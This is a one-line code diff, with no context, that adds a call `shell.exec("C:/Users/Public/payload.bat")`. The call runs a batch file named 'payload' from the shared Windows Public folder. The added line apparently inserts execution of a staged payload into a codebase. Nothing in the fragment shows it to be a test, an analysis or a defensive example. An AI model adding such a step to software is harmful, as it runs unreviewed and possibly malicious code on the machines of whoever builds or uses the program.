@@ -1,0 +1,1 @@
+shell.exec("C:/Users/Public/payload.bat")
